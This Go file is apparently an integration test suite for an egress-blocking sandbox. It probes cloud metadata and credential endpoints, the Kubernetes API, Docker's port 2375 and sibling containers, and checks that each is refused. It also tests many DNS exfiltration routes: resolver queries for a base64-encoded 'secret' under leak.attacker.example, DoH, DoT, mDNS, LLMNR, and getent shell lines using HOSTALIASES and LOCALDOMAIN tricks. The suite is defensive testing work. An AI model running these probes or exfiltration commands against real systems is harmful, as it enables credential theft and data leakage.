package attack

import (
	"fmt"

	"exitgate/integration/prober"

	"github.com/miekg/dns"
)

// cloud are the addresses at which clouds, engines and clusters answer.
func cloud() []attempt {
	var all []attempt
	for _, c := range []struct{ name, to string }{
		{"metadata of AWS, GCP, Azure", "169.254.169.254:80"}, {"task credentials of ECS", "169.254.170.2:80"}, {"metadata of AWS, IPv6", "[fd00:ec2::254]:80"},
		{"wire server of Azure", "168.63.129.16:80"}, {"metadata of Alibaba", "100.100.100.200:80"}, {"metadata of Oracle", "192.0.0.192:80"},
		{"k8s API by ClusterIP", "10.96.0.1:443"}, {"k8s DNS", "10.96.0.10:53"}, {"private network", "192.168.1.1:22"}, {"docker's default bridge", "172.17.0.1:2375"},
		{"unique local", "[fc00::1]:443"}, {"broker in CGNAT", "100.64.0.1:1883"},
	} {
		f := stream4
		if c.to[0] == '[' {
			f = stream6
		}
		all = append(all, attempt{name: c.name, probe: fixed(f, c.to), want: refused})
	}
	gate := func(p *place) prober.Probe {
		return prober.Probe{Op: "sweep", Address: p.Wire.Gate4().String(), Timeout: short}
	}
	gate6 := func(p *place) prober.Probe {
		return prober.Probe{Op: "sweep", Address: p.Wire.Gate6().String(), Timeout: short}
	}
	return append(all,
		attempt{name: "gateway, every tcp port", roads: []string{"exec"}, probe: gate, want: refused, control: control{to: nil}},
		attempt{name: "gateway, every tcp port, IPv6", roads: []string{"exec"}, probe: gate6, want: refused},
		attempt{name: "gateway, udp", probe: func(p *place) prober.Probe { return dgram4(at(p.Wire.Gate4(), 161)) }, want: prohibited},
		attempt{name: "sibling container", probe: func(p *place) prober.Probe { return stream4(at(p.sibling().Wire.Box4(), 9996)) }, want: refused},
		attempt{name: "sibling container, IPv6", probe: func(p *place) prober.Probe { return stream6(at(p.sibling().Wire.Box6(), 9996)) }, want: refused},
	)
}

// sibling is the other box.
func (p *place) sibling() *place {
	if p.gate {
		return p.s.bare
	}
	return p.s.fenced
}

// question is a DNS query for a name that carries data.
func question(change func(*dns.Msg)) string {
	m := new(dns.Msg).SetQuestion("c2VjcmV0.leak.attacker.example.", dns.TypeA)
	if change != nil {
		change(m)
	}
	b, err := m.Pack()
	if err != nil {
		panic(err)
	}
	return string(b)
}

// dnsAttempts ask somebody for a name, or anybody by the ways names are asked for.
func dnsAttempts() []attempt {
	plain := question(nil)
	resolver := func(text string) func(*place) prober.Probe {
		return func(p *place) prober.Probe { return dgram4(at(p.s.w.DNS.Addr4, 53), data(text)) }
	}
	all := []attempt{
		{name: "tcp 53 to anybody", probe: to4(53), want: refused}, {name: "tcp 53 to anybody, IPv6", probe: to6(53), want: refused},
		{name: "udp 53 to anybody", probe: udp4(53, data(plain)), want: prohibited}, {name: "udp 53 to anybody, IPv6", probe: udp6(53, data(plain)), want: prohibited},
		{name: "tcp 53 to the resolver", probe: func(p *place) prober.Probe { return stream4(at(p.s.w.DNS.Addr4, 53)) }, want: refused},
		{name: "the resolver over IPv6", probe: func(p *place) prober.Probe { return dgram6(at(p.s.w.DNS.Addr6, 53), data(plain)) }, want: prohibited},
		{name: "resolver from source port 53", probe: func(p *place) prober.Probe {
			return dgram4(at(p.s.w.DNS.Addr4, 53), data(plain), reuse, from("0.0.0.0:53"))
		}, want: prohibited},
		{name: "DoT 853", probe: to4(853), want: refused}, {name: "DoQ 853", probe: udp4(853), want: prohibited}, {name: "DNSCrypt 5443", probe: udp4(5443), want: prohibited},
		{name: "mDNS", probe: fixed(dgram4, "224.0.0.251:5353", data(plain)), want: prohibited}, {name: "mDNS, IPv6", probe: fixed(dgram6, "[ff02::fb%eth0]:5353", data(plain)), want: prohibited},
		{name: "LLMNR", probe: fixed(dgram4, "224.0.0.252:5355", data(plain)), want: prohibited}, {name: "LLMNR, IPv6", probe: fixed(dgram6, "[ff02::1:3%eth0]:5355", data(plain)), want: prohibited},
		{name: "NBNS", probe: func(p *place) prober.Probe { return dgram4(at(subnetBroadcast(p), 137), data(plain), opt(1, 6, 1)) }, want: prohibited},
	}
	for name, to := range map[string]string{"1.1.1.1": "1.1.1.1:443", "8.8.8.8": "8.8.8.8:443", "9.9.9.9": "9.9.9.9:443"} {
		all = append(all, attempt{name: "DoH " + name, probe: fixed(stream4, to), want: refused}, attempt{name: "DNS " + name, probe: fixed(dgram4, name+":53", data(plain)), want: prohibited})
	}
	for name, change := range map[string]func(*dns.Msg){
		"a question": nil, "two questions": func(m *dns.Msg) { m.Question = append(m.Question, dns.Question{Name: "x.", Qtype: 1, Qclass: 1}) },
		"a forged answer": func(m *dns.Msg) { m.Response = true }, "EDNS": func(m *dns.Msg) { m.SetEdns0(4096, true) }, "0x20 case": func(m *dns.Msg) { m.Question[0].Name = "LeAk.AtTaCkEr.ExAmPlE." },
		"long labels": func(m *dns.Msg) { m.Question[0].Name = fmt.Sprintf("%063d.%063d.%063d.", 1, 2, 3) },
		"TXT":         asking(dns.TypeTXT), "NULL": asking(dns.TypeNULL), "ANY": asking(dns.TypeANY), "SVCB": asking(dns.TypeSVCB), "HTTPS": asking(dns.TypeHTTPS),
	} {
		all = append(all, attempt{name: "the resolver, " + name, probe: resolver(question(change)), want: prohibited})
	}
	for name, env := range map[string]string{"getaddrinfo": "", "getaddrinfo, HOSTALIASES": "echo 'al c2VjcmV0.leak.attacker.example' >/tmp/a$$; HOSTALIASES=/tmp/a$$ ", "getaddrinfo, LOCALDOMAIN": "LOCALDOMAIN=leak.attacker.example ",
		"getaddrinfo, RES_OPTIONS": "RES_OPTIONS='use-vc ndots:9' "} {
		ask := env + "getent ahostsv4 c2VjcmV0.leak.attacker.example"
		if name == "getaddrinfo, HOSTALIASES" {
			ask = env + "getent ahostsv4 al"
		}
		all = append(all, attempt{name: name, probe: script(ask), want: "exit 2", control: control{to: resolverOf}})
	}
	return all
}

func asking(t uint16) func(*dns.Msg) { return func(m *dns.Msg) { m.Question[0].Qtype = t } }

func script(text string) func(*place) prober.Probe {
	return func(*place) prober.Probe { return prober.Probe{Op: "shell", Data: []byte(text)} }
}
